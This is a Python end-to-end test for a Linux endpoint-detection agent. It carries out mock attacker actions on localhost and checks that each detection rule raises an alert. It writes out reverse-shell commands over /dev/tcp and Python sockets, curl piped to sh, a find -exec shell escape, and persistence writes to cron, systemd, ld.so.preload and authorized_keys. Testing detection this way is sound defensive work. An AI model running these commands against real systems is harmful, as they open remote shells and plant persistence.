"""The built-in Linux rule pack fires for real: with the eBPF agent running, this test does each
activity on the host (a /dev/tcp reverse shell, curl piped into sh, a program run from /tmp, new cron/systemd/rc/profile files, /etc/ld.so.preload and authorized_keys writes, a
netcat-free Python reverse shell, find -exec /bin/sh) and asserts the alert: rule id, host and the
process entity of the process that did it (its pid in the alert's event). Everything written is
removed again. Kernel module loads are not exercised: this kernel has no module support
(/proc/modules is absent); the rule is covered by the unit tests."""
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid

from vigil_e2e import Vigil, check, wait_for

M = uuid.uuid4().hex[:10]
created = []  # files to remove at the end
made_dirs = []


def listener():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(8)

    def accept():
        while True:
            try:
                c, _ = s.accept()
                c.recv(100)
                c.close()
            except OSError:
                return
    threading.Thread(target=accept, daemon=True).start()
    return s


class Payload(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"true\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def run(args, **kw):
    p = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait(timeout=20)
    return p.pid


def touch_append(path):
    """Opens path for appending without writing: an open_write (or create) event, no content change."""
    existed = os.path.exists(path)
    pid = run(["/bin/sh", "-c", f": >> {path}"])
    if not existed:
        created.append(path)
    return pid


try:
    with Vigil() as v:
        v.start_server()
        state = os.path.join(v.dir, "agent")
        r = v.enroll(state)
        check(r.returncode == 0, f"agent enrolls ({r.stderr.strip()})")
        v.start_agent(state, "--sensor", "ebpf")
        wait_for(lambda: any(h["online"] for h in v.hosts()), 20, "the agent to come online")
        host = v.hosts()[0]
        wait_for(lambda: v.received() > 0, 20, "the agent's first events")

        sock = listener()
        port = sock.getsockname()[1]
        web = http.server.HTTPServer(("127.0.0.1", 0), Payload)
        threading.Thread(target=web.serve_forever, daemon=True).start()

        expect = {}  # rule id -> (pid, description) of the process whose event must be in the alert

        expect["vigil-linux-reverse-shell-dev-tcp"] = run(
            ["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo {M} >&3"])
        expect["vigil-linux-reverse-shell-shell-connect"] = expect["vigil-linux-reverse-shell-dev-tcp"]
        expect["vigil-linux-download-piped-to-shell"] = run(
            ["/bin/sh", "-c", f"curl -s http://127.0.0.1:{web.server_port}/{M}.sh | sh"])
        expect["vigil-linux-reverse-shell-tools"] = run(
            [sys.executable, "-c",
             f"import socket,os;s=socket.socket();s.connect(('127.0.0.1',{port}));"
             f"os.dup2(s.fileno(),1);print('{M}')"])

        tmpdir = f"/tmp/vigil-e2e-{M}"
        os.makedirs(tmpdir)
        made_dirs.append(tmpdir)
        shutil.copy("/bin/true", f"{tmpdir}/payload")
        expect["vigil-linux-exec-from-world-writable-dir"] = run([f"{tmpdir}/payload"])

        def write(path):
            created.append(path)
            return run(["/bin/sh", "-c", f"echo '# vigil e2e {M}' > {path}"])

        expect["vigil-linux-persistence-cron"] = write(f"/etc/cron.d/vigil-e2e-{M}")
        expect["vigil-linux-persistence-systemd"] = write(f"/etc/systemd/system/vigil-e2e-{M}.service")
        expect["vigil-linux-persistence-rc-scripts"] = write(f"/etc/init.d/vigil-e2e-{M}")
        expect["vigil-linux-persistence-shell-profile"] = write(f"/etc/profile.d/vigil-e2e-{M}.sh")
        expect["vigil-linux-ld-so-preload"] = touch_append("/etc/ld.so.preload")
        if not os.path.isdir("/root/.ssh"):
            os.makedirs("/root/.ssh", mode=0o700)
            made_dirs.append("/root/.ssh")
        expect["vigil-linux-ssh-authorized-keys"] = touch_append("/root/.ssh/authorized_keys")

        find_pid = run(["/usr/bin/find", "/etc/hostname", "-exec", "/bin/sh", "-c", f": {M}", ";"])
        expect["vigil-linux-gtfobins-exec-options"] = find_pid

        def alerts():
            out = v.cli("alerts", "--format", "json", "--limit", "1000")
            return [json.loads(line) for line in out.splitlines() if line.strip()]

        def matched(rule, pid, list_):
            for a in list_:
                if a["rule_id"] != rule:
                    continue
                for e in a["events"]:
                    if e.get("process.pid") == pid:
                        return a, e
            return None

        def all_fired():
            current = alerts()
            ok = all(matched(rule, pid, current) for rule, pid in expect.items())
            shell = [a for a in current if a["rule_id"] == "vigil-linux-gtfobins-shell-escape"
                     and any(e.get("process.parent.pid") == find_pid for e in a["events"])]
            return current if ok and shell else None

        got = wait_for(all_fired, 20, "an alert for every activity", interval=0.5)
        for rule, pid in sorted(expect.items()):
            a, e = matched(rule, pid, got)
            check(a["host.id"] == host["host.id"] and a["host.name"] == host["host.name"],
                  f"{rule}: host {a['host.name']}")
            check(len(a["process.entity_id"]) == 32 and a["process.entity_id"] == e["process.entity_id"],
                  f"{rule}: process entity {a['process.entity_id']} of pid {pid}")
            check(any(t.startswith("attack.t") for t in a["tags"]) and a["severity"], f"{rule}: ATT&CK tag, severity")
        shell = [a for a in got if a["rule_id"] == "vigil-linux-gtfobins-shell-escape"
                 and any(e.get("process.parent.pid") == find_pid for e in a["events"])][0]
        check(shell["events"][0]["process.parent.name"] == "find" and len(shell["process.entity_id"]) == 32,
              "vigil-linux-gtfobins-shell-escape: the shell started by find, with its entity")
        tmp_alert, _ = matched("vigil-linux-exec-from-world-writable-dir",
                               expect["vigil-linux-exec-from-world-writable-dir"], got)
        check(tmp_alert["events"][0]["process.executable"] == f"{tmpdir}/payload", "the /tmp payload's path")
        sock.close()
        web.shutdown()
finally:
    for path in created:
        try:
            os.remove(path)
        except OSError:
            pass
    for d in reversed(made_dirs):
        shutil.rmtree(d, ignore_errors=True)
